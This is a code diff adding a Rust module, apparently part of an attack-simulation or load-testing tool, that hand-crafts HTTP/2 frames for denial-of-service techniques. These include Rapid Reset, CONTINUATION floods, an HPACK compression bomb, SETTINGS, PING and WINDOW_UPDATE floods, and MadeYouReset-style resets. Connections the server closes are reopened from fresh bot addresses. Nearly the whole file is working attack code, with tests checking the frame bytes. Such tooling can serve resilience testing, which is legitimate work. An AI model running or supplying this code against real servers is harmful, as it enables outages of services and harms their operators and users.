@@ -1,0 +1,243 @@
+//! HTTP/2 frames that cost the server more than the client.
+//!
+//! The frames are written by hand, because no honest library would send them. Each connection has one trick and plays it for as
+//! long as the server lets it; one the server closes is opened again from the next address.
+
+use std::time::Duration;
+
+use super::attack::{Field, Span};
+use super::schedule::Schedule;
+use crate::chance::Chance;
+use crate::scenario::{Arrivals, H2Abuse, H2Trick};
+use crate::wire::{Key, Use};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
+
+const END_STREAM: u8 = 0x1;
+const END_HEADERS: u8 = 0x4;
+const CANCEL: u32 = 8;
+
+/// Sent before the wire is heard again.
+const FIRED_AT_ONCE: usize = 256;
+/// A connection whose server does not read is not fed more than this.
+const UNSENT_BYTES_MAX: usize = 64 * 1024;
+/// A connection that the server closed is opened again after this.
+const REOPENED_AFTER: Duration = Duration::from_millis(200);
+/// Of the field that a bomb puts into the table, just below the table's usual 4,096 bytes.
+const BOMB_FIELD_BYTES: usize = 4_000;
+/// One byte each, 4,000 when unpacked.
+const BOMB_REFERENCES: usize = 1_000;
+/// Odd numbers up to 2^31 - 1 (RFC 9113 §5.1.1); an honest client opens a new connection then, as we do.
+const STREAM_MAX: u32 = 0x7fff_fff0;
+
+pub(super) struct H2Attack {
+    span: Span,
+    schedule: Schedule<Box<dyn Fn(Duration) -> f64>>,
+    chance: Chance,
+    lines: Vec<Line>,
+    at: usize,
+    turns: usize,
+    frames: Vec<u8>,
+}
+
+struct Line {
+    trick: H2Trick,
+    key: Option<Key>,
+    /// The next stream to open.
+    stream: u32,
+    /// Frames sent on this connection.
+    sent: u32,
+    closed_at: Option<Duration>,
+}
+
+impl H2Attack {
+    pub(super) fn new(abuse: &H2Abuse, span: Span, chance: Chance) -> Self {
+        let rate = abuse.rate;
+        let rate: Box<dyn Fn(Duration) -> f64> = Box::new(move |_| rate);
+        let lines = abuse.tricks.iter().cycle().take(abuse.connections as usize);
+        Self {
+            span,
+            schedule: Schedule::new(rate, Arrivals::Even, 1, span.start, span.end, Chance::new(0)),
+            chance,
+            lines: lines.map(|trick| Line { trick: *trick, key: None, stream: 1, sent: 0, closed_at: None }).collect(),
+            at: 0,
+            turns: 0,
+            frames: Vec::new(),
+        }
+    }
+
+    pub(super) fn next(&self) -> Option<Duration> {
+        self.schedule.peek()
+    }
+
+    pub(super) fn fire(&mut self, now: Duration, field: &mut Field<'_>) {
+        for _ in 0..FIRED_AT_ONCE {
+            let Some(due) = self.schedule.pop(now) else { return };
+            field.notes.due += 1;
+            self.abuse(due, now, field);
+        }
+    }
+
+    fn abuse(&mut self, due: Duration, now: Duration, field: &mut Field<'_>) {
+        let line = self.at;
+        self.at = (self.at + 1) % self.lines.len();
+        let line = &mut self.lines[line];
+        field.notes.note(due, |tally| tally.requests += 1);
+        self.frames.clear();
+        let key = match line.key {
+            Some(key) => key,
+            None => {
+                if line.closed_at.is_some_and(|at| now < at + REOPENED_AFTER) {
+                    return field.notes.note(due, |tally| tally.refused += 1);
+                }
+                let bot = self.span.address(self.turns);
+                self.turns += 1;
+                let Some(key) = field.open(field.ground.address(bot), Use::Drain, due) else { return };
+                (line.key, line.stream, line.sent) = (Some(key), 1, 0);
+                self.frames.extend_from_slice(PREFACE);
+                frame(&mut self.frames, SETTINGS, 0, 0, &[]);
+                key
+            }
+        };
+        if field.wire.unsent(key) > UNSENT_BYTES_MAX {
+            return field.notes.note(due, |tally| tally.abandoned += 1);
+        }
+        play(line, field.ground.host, &mut self.chance, &mut self.frames);
+        line.sent += 1;
+        // What fails here is heard as the connection's end.
+        field.wire.push(key, &self.frames);
+        if line.stream >= STREAM_MAX {
+            line.key = None;
+            field.wire.close(key, true);
+        }
+    }
+
+    pub(super) fn hear(&mut self, now: Duration, key: Key, field: &mut Field<'_>) {
+        field.wire.close(key, true);
+        if let Some(line) = self.lines.iter_mut().find(|line| line.key == Some(key)) {
+            (line.key, line.closed_at) = (None, Some(now));
+        }
+    }
+}
+
+/// One turn of a connection's trick.
+fn play(line: &mut Line, host: &str, chance: &mut Chance, out: &mut Vec<u8>) {
+    let stream = line.stream;
+    match line.trick {
+        H2Trick::RapidReset => {
+            frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &request_block(host));
+            frame(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
+            line.stream += 2;
+        }
+        H2Trick::Continuation => {
+            if line.sent == 0 {
+                frame(out, HEADERS, END_STREAM, stream, &request_block(host));
+            }
+            // A field a frame, without the flag that would end the block.
+            let mut block = vec![0x00];
+            string(&mut block, b"x-more");
+            string(&mut block, &[b'a'; 100]);
+            frame(out, CONTINUATION, 0, stream, &block);
+        }
+        H2Trick::Settings => {
+            // SETTINGS_INITIAL_WINDOW_SIZE, another each time, for the server to apply and acknowledge.
+            let size = 65_535 + (chance.draw() as u32 & 0xffff);
+            let mut payload = vec![0, 4];
+            payload.extend_from_slice(&size.to_be_bytes());
+            frame(out, SETTINGS, 0, 0, &payload);
+        }
+        H2Trick::Ping => frame(out, PING, 0, 0, &chance.draw().to_be_bytes()),
+        H2Trick::WindowUpdate => frame(out, WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
+        H2Trick::HpackBomb => {
+            let mut block = request_block(host);
+            // With incremental indexing: it becomes entry 62, the first of the dynamic table.
+            block.push(0x40);
+            string(&mut block, b"x");
+            string(&mut block, &[b'a'; BOMB_FIELD_BYTES]);
+            block.extend(std::iter::repeat_n(0x80 | 62, BOMB_REFERENCES));
+            frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &block);
+            line.stream += 2;
+        }
+        H2Trick::MadeYouReset => {
+            frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &request_block(host));
+            match line.sent % 3 {
+                // No increment; more window than there can be; a body after its end (RFC 9113 §§6.9, 6.9.1, 5.1).
+                0 => frame(out, WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
+                1 => frame(out, WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes()),
+                _ => frame(out, DATA, 0, stream, b"more"),
+            }
+            line.stream += 2;
+        }
+    }
+}
+
+fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let length = payload.len() as u32;
+    out.extend_from_slice(&length.to_be_bytes()[1..]);
+    out.extend_from_slice(&[kind, flags]);
+    out.extend_from_slice(&stream.to_be_bytes());
+    out.extend_from_slice(payload);
+}
+
+/// `GET /` over http, from the static table; the authority written out.
+fn request_block(host: &str) -> Vec<u8> {
+    let mut block = vec![0x82, 0x86, 0x84, 0x41];
+    string(&mut block, host.as_bytes());
+    block
+}
+
+/// Without Huffman code; the length as an integer with a seven-bit prefix (RFC 7541 §5.1).
+fn string(out: &mut Vec<u8>, text: &[u8]) {
+    let mut length = text.len();
+    if length < 127 {
+        out.push(length as u8);
+    } else {
+        out.push(127);
+        length -= 127;
+        while length >= 128 {
+            out.push((length % 128) as u8 | 0x80);
+            length /= 128;
+        }
+        out.push(length as u8);
+    }
+    out.extend_from_slice(text);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn frames_have_the_shape_of_the_rfc() {
+        let mut out = Vec::new();
+        frame(&mut out, RST_STREAM, 0, 5, &CANCEL.to_be_bytes());
+        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
+    }
+
+    #[test]
+    fn lengths_are_coded_as_in_rfc_7541() {
+        for (length, coded) in [(0, &[0u8][..]), (126, &[126]), (127, &[127, 0]), (254, &[127, 127]), (255, &[127, 128, 1]), (4_000, &[127, 161, 30])] {
+            let mut out = Vec::new();
+            string(&mut out, &vec![b'a'; length]);
+            assert_eq!(&out[..coded.len()], coded, "{length}");
+            assert_eq!(out.len(), coded.len() + length);
+        }
+    }
+
+    #[test]
+    fn a_bomb_is_small_on_the_wire() {
+        let mut line = Line { trick: H2Trick::HpackBomb, key: None, stream: 1, sent: 0, closed_at: None };
+        let mut out = Vec::new();
+        play(&mut line, "qala.example", &mut Chance::new(1), &mut out);
+        assert!(out.len() < 5_100, "{}", out.len());
+        assert_eq!(line.stream, 3);
+    }
+}
